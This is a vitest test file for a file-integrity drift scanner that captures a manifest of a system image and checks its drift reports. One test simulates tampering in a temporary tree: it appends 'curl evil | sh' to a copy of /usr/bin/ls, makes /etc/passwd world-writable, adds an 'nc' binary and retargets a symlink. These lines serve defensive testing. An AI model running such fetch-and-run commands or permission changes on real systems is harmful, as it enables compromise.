import {
  appendFileSync,
  chmodSync,
  readFileSync,
  rmSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { runCli, tempDir } from '../helpers/cli.js'
import { buildImageRoot } from '../helpers/tree.js'

let dir: { path: string; cleanup: () => void }
let root: string
let manifest: string

beforeEach(async () => {
  dir = tempDir()
  root = join(dir.path, 'root')
  manifest = join(dir.path, 'manifest.json')
  buildImageRoot(root)
  const capture = await runCli([
    'manifest',
    'capture',
    '--image',
    'web-base@2026.11.27-1',
    '--root',
    root,
    '--out',
    manifest,
  ])
  expect(capture.stderr).toBe('')
  expect(capture.code).toBe(0)
})
afterEach(() => dir.cleanup())

const scan = (...extra: string[]) =>
  runCli([
    'scan',
    '--manifest',
    manifest,
    '--root',
    root,
    '--format',
    'json',
    '--state-dir',
    join(dir.path, 'state'),
    ...extra,
  ])

describe('capture then scan', () => {
  test('a fresh copy scans clean, exit 0, one JSON document', async () => {
    const result = await scan()
    expect(result.code).toBe(0)
    const report = JSON.parse(result.stdout)
    expect(report.schema).toBe('driftwatch.report/v1')
    expect(report.summary.total).toBe(0)
    expect(report.scan.files).toBeGreaterThan(10)
    expect(report.image).toMatchObject({ id: 'web-base', version: '2026.11.27-1' })
    expect(report.host.id).toBe('00000000000000000000000000000001')
  })

  test('the manifest records type, mode, owner, size, digest and link targets; excludes per-instance files', () => {
    const m = JSON.parse(readFileSync(manifest, 'utf8'))
    const byPath = new Map(m.files.map((f: { path: string }) => [f.path, f]))
    expect(byPath.get('/usr/bin/ls')).toMatchObject({
      type: 'file',
      mode: '0755',
      size: 18,
      sha256: expect.stringMatching(/^[0-9a-f]{64}$/),
    })
    expect(byPath.get('/usr/bin/dir')).toMatchObject({ type: 'symlink', target: '/usr/bin/ls' })
    expect(byPath.get('/bin')).toMatchObject({ type: 'symlink', target: 'usr/bin' })
    expect(byPath.has('/etc/hostname')).toBe(false)
    expect(byPath.has('/etc/machine-id')).toBe(false)
    expect(m.policy.schema).toBe('driftwatch.policy/v1')
    expect(m.digest).toMatch(/^sha256:/)
  })

  test('content, mode, link target, addition and removal are each reported with severity', async () => {
    appendFileSync(join(root, 'usr/bin/ls'), 'curl evil | sh\n')
    chmodSync(join(root, 'etc/passwd'), 0o666)
    rmSync(join(root, 'usr/bin/dir'))
    symlinkSync('/tmp/evil', join(root, 'usr/bin/dir'))
    writeFileSync(join(root, 'usr/bin/nc'), 'nc')
    rmSync(join(root, 'usr/share/doc/base/README'))
    const result = await scan()
    expect(result.code).toBe(1)
    const report = JSON.parse(result.stdout)
    const items = Object.fromEntries(report.drift.map((d: { subject: string }) => [d.subject, d]))
    expect(items['/usr/bin/ls']).toMatchObject({
      change: 'modified',
      attributes: ['size', 'sha256'],
      severity: 'critical',
    })
    expect(items['/etc/passwd']).toMatchObject({
      change: 'modified',
      attributes: ['mode'],
      expected: { mode: '0644' },
      actual: { mode: '0666' },
      severity: 'critical',
    })
    expect(items['/usr/bin/dir']).toMatchObject({ attributes: ['target'], actual: { target: '/tmp/evil' } })
    expect(items['/usr/bin/nc']).toMatchObject({ change: 'added', severity: 'critical' })
    expect(items['/usr/share/doc/base/README']).toMatchObject({ change: 'removed', severity: 'low' })
    expect(report.summary.total).toBe(5)
    // Most severe first.
    expect(report.drift[0].severity).toBe('critical')
  })

  test('a touch alone is not drift', async () => {
    utimesSync(join(root, 'usr/bin/ls'), new Date(2001, 1, 1), new Date(2001, 1, 1))
    expect((await scan()).code).toBe(0)
  })

  test('the text report is grouped, names each change, and ends with a one-line summary', async () => {
    appendFileSync(join(root, 'usr/bin/cat'), 'x')
    chmodSync(join(root, 'usr/bin/ls'), 0o4755)
    const result = await runCli(['scan', '--manifest', manifest, '--root', root])
    expect(result.code).toBe(1)
    expect(result.stdout).toContain('Files')
    expect(result.stdout).toMatch(/critical\s+modified\s+\/usr\/bin\/ls\s+mode 0755 -> 4755/)
    expect(result.stdout).toMatch(/critical\s+modified\s+\/usr\/bin\/cat\s+size 19 -> 20, content/)
    const last = result.stdout.trim().split('\n').at(-1)
    expect(last).toMatch(/^2 drift items \(2 critical\) · \d+ files/)
    expect(result.stdout).not.toContain('\u001b[') // no colour when not a terminal
    expect(result.stderr).toBe('') // no progress when not a terminal
  })

  test('--out writes the report to a file and nothing to stdout', async () => {
    const out = join(dir.path, 'report.json')
    const result = await scan('--out', out)
    expect(result.code).toBe(0)
    expect(result.stdout).toBe('')
    expect(JSON.parse(readFileSync(out, 'utf8')).summary.total).toBe(0)
  })
})
